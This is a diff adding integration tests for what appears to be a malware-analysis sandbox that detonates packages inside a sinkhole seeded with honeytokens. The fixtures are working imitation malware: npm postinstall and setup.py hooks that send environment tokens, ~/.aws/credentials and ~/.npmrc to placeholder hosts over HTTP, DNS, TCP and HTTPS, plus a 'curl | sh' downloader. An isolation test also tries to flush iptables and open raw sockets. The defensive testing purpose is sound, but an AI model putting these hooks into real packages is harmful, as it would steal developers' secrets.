@@ -1,0 +1,305 @@
+// The per-analysis sinkhole and the honeytokens against the real Docker engine, with the real
+// sandbox (same image, capabilities, labels) joined to the sinkhole's network namespace.
+// Packages imitate malware against documentation addresses and .example names only.
+import { spawn } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import { readFile } from 'node:fs/promises';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { Behavior, CanaryReport, SinkholeCapture, StagedPackage } from '@vetbox/contracts';
+import { buildBehavior } from '@vetbox/behavior';
+import { detectLeaks, generateCanaries, type Canaries } from '@vetbox/honeytokens';
+import {
+  DockerRuntime,
+  LABEL_ANALYSIS,
+  ensureSandboxImage,
+  randomIdentity,
+  runInSandbox,
+  runSandbox,
+  type PhaseResult,
+  type SandboxIdentity,
+} from '@vetbox/sandbox';
+import { startSinkhole, type CannedResponse } from '@vetbox/sinkhole';
+import { stageNpm, stagePypiSdist } from '../fixtures/sandbox/stage.js';
+
+const here = path.dirname(fileURLToPath(import.meta.url));
+const runtime = new DockerRuntime();
+const limits = { graceMs: 1000, phaseTimeoutMs: 120_000 };
+let image = '';
+const used: string[] = [];
+
+beforeAll(async () => {
+  image = await ensureSandboxImage(runtime, { build: true });
+}, 600_000);
+
+afterEach(async () => {
+  for (const id of used.splice(0)) expect(await runtime.listByLabel(LABEL_ANALYSIS, id)).toEqual([]);
+});
+
+interface Detonation {
+  capture: SinkholeCapture;
+  behavior: Behavior;
+  reports: CanaryReport[];
+  canaries: Canaries;
+  phases: PhaseResult[];
+  identity: SandboxIdentity;
+}
+
+/** The pipeline's order: sinkhole → canaries → sandbox in its namespace → collect → detect. */
+async function detonate(staged: StagedPackage, canned: CannedResponse[] = []): Promise<Detonation> {
+  const analysisId = `test-sinkhole-${randomUUID()}`;
+  used.push(analysisId);
+  const identity = randomIdentity();
+  await using sinkhole = await startSinkhole({ analysisId, image, canned, hostname: identity.hostname });
+  const canaries = generateCanaries({ home: identity.home, workdir: identity.workdir, user: identity.user });
+  const r = await runSandbox({
+    analysisId,
+    staged,
+    identity,
+    limits,
+    network: { mode: 'container', containerId: sinkhole.containerId },
+    env: canaries.env,
+    homeFiles: canaries.files,
+    caCertPem: sinkhole.caCertPem,
+  });
+  const capture = await sinkhole.collect();
+  const behavior = await buildBehavior({
+    phases: r.phases
+      .filter((p) => p.trace)
+      .map((p) => ({ name: p.name, tracePath: p.trace, startedAtMs: p.startedAtMs, endedAtMs: p.startedAtMs + p.durationMs })),
+    sandbox: r.sandbox,
+    capture,
+  });
+  return { capture, behavior, reports: detectLeaks(canaries.canaries, capture, behavior), canaries, phases: r.phases, identity };
+}
+
+const leaked = (d: Detonation) => d.reports.filter((r) => r.leaked);
+const report = (d: Detonation, planted: string) => d.reports.find((r) => r.planted === planted || r.planted.endsWith(planted))!;
+const argvOf = (d: Detonation, pid: number | undefined) => d.behavior.processes.find((p) => p.pid === pid)?.argv.join(' ') ?? '';
+
+describe('sinkhole + honeytokens: imitation malware', () => {
+  it('postinstall base64-encodes process.env into an HTTP POST to collector.example', async () => {
+    const staged = await stageNpm({
+      name: 'env-stealer',
+      scripts: { postinstall: 'node steal.js' },
+      files: {
+        'steal.js': `
+const http = require('http');
+const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
+const req = http.request({ host: 'collector.example', path: '/e', method: 'POST', headers: { 'content-type': 'text/plain' } }, (res) => {
+  res.resume(); res.on('end', () => console.log('exfil status', res.statusCode));
+});
+req.on('error', (e) => console.log('exfil error', e.message));
+req.end(body);
+`,
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    const d = await detonate(staged);
+    expect(d.phases[0]!.stdoutTail).toContain('exfil status 200');
+    for (const name of ['NPM_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'PYPI_TOKEN']) {
+      const r = report(d, name);
+      expect(r.leaked, name).toBe(true);
+      expect(r.read).toBeNull();
+      expect(r.evidence[0]).toMatchObject({ encoding: 'base64', channel: 'http', destination: 'collector.example', phase: 'install' });
+      expect(argvOf(d, r.evidence[0]!.pid)).toContain('steal.js');
+    }
+    // File canaries were not touched.
+    expect(leaked(d).every((r) => r.kind.startsWith('env-'))).toBe(true);
+  });
+
+  it('postinstall hex-encodes NPM_TOKEN into DNS names split across labels', async () => {
+    const staged = await stageNpm({
+      name: 'dns-exfil',
+      scripts: { postinstall: 'node dns.js' },
+      files: {
+        'dns.js': `
+const dns = require('dns');
+const hex = Buffer.from(process.env.NPM_TOKEN || '').toString('hex');
+const name = hex.match(/.{1,30}/g).join('.') + '.t.attacker.example';
+dns.lookup(name, (err, address) => console.log('resolved', err ? err.code : address));
+`,
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    const d = await detonate(staged);
+    expect(d.phases[0]!.stdoutTail).toMatch(/resolved 198\.1[89]\./);
+    const r = report(d, 'NPM_TOKEN');
+    expect(r.leaked).toBe(true);
+    expect(r.evidence[0]).toMatchObject({ channel: 'dns', encoding: 'hex', destination: 'attacker.example', layers: ['dns-labels', 'hex'] });
+    expect(leaked(d).map((x) => x.planted)).toEqual(['NPM_TOKEN']);
+  });
+
+  it('setup.py sends ~/.aws/credentials over raw TCP to 198.51.100.20:9001', async () => {
+    const staged = await stagePypiSdist({
+      name: 'awssteal',
+      setupPy: `
+import os, socket
+try:
+    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
+    s = socket.create_connection(('198.51.100.20', 9001), timeout=3)
+    s.sendall(data)
+    print('exfil answer', s.recv(16))
+    s.close()
+except Exception as e:
+    print('exfil failed', e)
+from setuptools import setup
+setup(name='awssteal', version='1.0.0', py_modules=['awssteal'])
+`,
+      files: { 'awssteal.py': 'VALUE = 1\n' },
+    });
+    const d = await detonate(staged);
+    const r = report(d, '/.aws/credentials');
+    expect(r.kind).toBe('aws-credentials');
+    expect(r.leaked).toBe(true);
+    expect(r.read).toBe(true);
+    expect(r.evidence[0]).toMatchObject({ channel: 'tcp', encoding: 'plain', destination: '198.51.100.20:9001', phase: 'install' });
+    expect(argvOf(d, r.evidence[0]!.pid)).toMatch(/python/);
+    const stream = d.capture.streams[r.evidence[0]!.capture!.index]!;
+    expect(stream.dst).toEqual({ address: '198.51.100.20', port: 9001 });
+  });
+
+  it('postinstall POSTs ~/.npmrc over HTTPS to upload.example (decrypted with the analysis CA)', async () => {
+    const staged = await stageNpm({
+      name: 'npmrc-https',
+      scripts: { postinstall: 'node up.js' },
+      files: {
+        'up.js': `
+const https = require('https'), fs = require('fs'), os = require('os');
+const body = fs.readFileSync(os.homedir() + '/.npmrc');
+const req = https.request({ host: 'upload.example', path: '/u', method: 'POST' }, (res) => {
+  res.resume(); res.on('end', () => console.log('upload status', res.statusCode));
+});
+req.on('error', (e) => console.log('upload error', e.message));
+req.end(body);
+`,
+        'index.js': 'module.exports = 1;\n',
+      },
+    });
+    const d = await detonate(staged);
+    expect(d.phases[0]!.stdoutTail).toContain('upload status 200');
+    const r = report(d, '/.npmrc');
+    expect(r.kind).toBe('npmrc');
+    expect(r.read).toBe(true);
+    expect(r.evidence[0]).toMatchObject({ channel: 'https', encoding: 'plain', destination: 'upload.example', phase: 'install' });
+    expect(argvOf(d, r.evidence[0]!.pid)).toContain('up.js');
+    const stream = d.capture.streams.find((s) => s.sni === 'upload.example')!;
+    expect(stream.kind).toBe('tls');
+    expect(stream.http[0]).toMatchObject({ method: 'POST', path: '/u' });
+  });
+
+  it('a downloader gets the sinkhole answer and its next step shows up too', async () => {
+    const staged = await stageNpm({
+      name: 'downloader',
+      scripts: { postinstall: 'curl -s http://stage.example/stage2.sh | sh' },
+      files: { 'index.js': 'module.exports = 1;\n' },
+    });
+    const canned = [{ host: 'stage.example', path: '/stage2.sh', contentType: 'text/x-shellscript', body: '#!/bin/sh\ncurl -s http://next.example/ping\n' }];
+    const d = await detonate(staged, canned);
+    const requests = d.capture.streams.flatMap((s) => s.http.map((h) => `${h.method} ${h.host}${h.path}`));
+    expect(requests).toEqual(expect.arrayContaining(['GET stage.example/stage2.sh', 'GET next.example/ping']));
+    const stage2 = d.behavior.processes.find((p) => p.argv.join(' ') === 'curl -s http://next.example/ping');
+    expect(stage2, JSON.stringify(d.behavior.processes.map((p) => p.argv))).toBeDefined();
+    const first = d.capture.streams.find((s) => s.http.some((h) => h.path === '/stage2.sh'))!;
+    expect(first.hostname).toBe('stage.example');
+    expect(leaked(d)).toEqual([]);
+  });
+});
+
+/** Counts packets carrying `marker` on every host interface while `fn` runs. */
+async function witness<T>(marker: string, fn: () => Promise<T>): Promise<{ result: T; marked: Record<string, number>; seen: number }> {
+  const child = spawn('python3', [path.join(here, '../fixtures/sinkhole/sniff.py'), marker], { stdio: ['pipe', 'pipe', 'inherit'] });
+  let out = '';
+  child.stdout.on('data', (c: Buffer) => (out += c.toString()));
+  await new Promise<void>((resolve, reject) => {
+    child.on('error', reject);
+    child.stdout.on('data', () => out.includes('ready') && resolve());
+  });
+  try {
+    const result = await fn();
+    await new Promise((r) => setTimeout(r, 500));
+    child.stdin.end();
+    await new Promise((r) => child.on('close', r));
+    const { marked, seen } = JSON.parse(out.split('\n').find((l) => l.startsWith('{'))!) as { marked: Record<string, number>; seen: number };
+    return { result, marked, seen };
+  } finally {
+    child.kill();
+  }
+}
+
+function hostTxPackets(text: string): number {
+  return text
+    .split('\n')
+    .slice(2)
+    .map((l) => l.trim().split(/[:\s]+/))
+    .filter((f) => f.length > 10 && f[0] !== 'lo')
+    .reduce((sum, f) => sum + Number(f[10]), 0);
+}
+
+describe('sinkhole isolation', () => {
+  it('the sandbox cannot change routes or rules, open raw sockets, or get a packet onto a host interface', async () => {
+    const analysisId = `test-sinkhole-${randomUUID()}`;
+    used.push(analysisId);
+    const marker = `vetbox-leak-${randomUUID().slice(0, 8)}`;
+    const BURST = 2000;
+    await using sinkhole = await startSinkhole({ analysisId, image });
+    const script = `
+iptables -t nat -F 2>&1; echo "iptables=$?"
+ip route del default 2>&1; echo "routedel=$?"
+ip route add 203.0.113.0/24 dev lo 2>&1; echo "routeadd=$?"
+ip link set lo down 2>&1; echo "linkdown=$?"
+python3 - <<'PY'
+import socket
+for name, args in [('raw', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)), ('packet', (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))]:
+    try:
+        socket.socket(*args); print(name + '=opened')
+    except OSError as e:
+        print(name + '=' + type(e).__name__)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+sent = 0
+for i in range(${BURST}):
+    try:
+        u.sendto(b'${marker} %d' % i, ('203.0.113.1', 9)); sent += 1
+    except OSError:
+        pass
+print('udp_sent=%d' % sent)
+for host in ['203.0.113.1', '192.0.2.1']:
+    try:
+        s = socket.create_connection((host, 80), timeout=2); s.sendall(b'${marker}'); s.close(); print('tcp=' + host)
+    except OSError as e:
+        print('tcp_err=' + str(e))
+PY
+curl -s -m 5 http://after.example/still-sinkholed >/dev/null; echo "curl=$?"
+`;
+    const before = await readFile('/proc/net/dev', 'utf8');
+    const { result, marked, seen } = await witness(marker, () =>
+      runInSandbox({ analysisId, cmd: script, network: { mode: 'container', containerId: sinkhole.containerId }, timeoutMs: 60_000, limits }),
+    );
+    const after = await readFile('/proc/net/dev', 'utf8');
+    const out = result.stdoutTail;
+    expect(out).toMatch(/iptables=[1-9]/);
+    expect(out).toMatch(/routedel=[1-9]/);
+    expect(out).toMatch(/routeadd=[1-9]/);
+    expect(out).toMatch(/linkdown=[1-9]/);
+    expect(out).toContain('raw=PermissionError');
+    expect(out).toContain('packet=PermissionError');
+    expect(out).toContain(`udp_sent=${BURST}`);
+    expect(out).toContain('curl=0');
+    // Not one marked packet on any host interface (the witness sees all of them: `seen`).
+    expect(seen).toBeGreaterThan(0);
+    expect(marked).toEqual({});
+    // Interface counters as a second witness: the burst alone would add ≥ 2000 tx packets.
+    // Background traffic of this shared machine also counts, so only a gross leak fails here.
+    expect(hostTxPackets(after) - hostTxPackets(before)).toBeLessThan(BURST);
+    // Everything went to the sinkhole instead, and the rules still held afterwards.
+    const capture = await sinkhole.collect();
+    const udp = capture.streams.filter((s) => s.protocol === 'udp' && s.dst.address === '203.0.113.1');
+    expect(udp.length).toBeGreaterThan(0);
+    expect(Buffer.from(udp[0]!.dataBase64, 'base64').toString()).toContain(marker);
+    expect(udp.reduce((n, s) => n + s.bytes, 0)).toBeGreaterThan(BURST * marker.length);
+    const tcp = capture.streams.filter((s) => s.protocol === 'tcp').map((s) => `${s.dst.address}:${s.dst.port}`);
+    expect(tcp).toEqual(expect.arrayContaining(['203.0.113.1:80', '192.0.2.1:80']));
+    expect(capture.streams.some((s) => s.http.some((h) => h.host === 'after.example'))).toBe(true);
+  });
+});
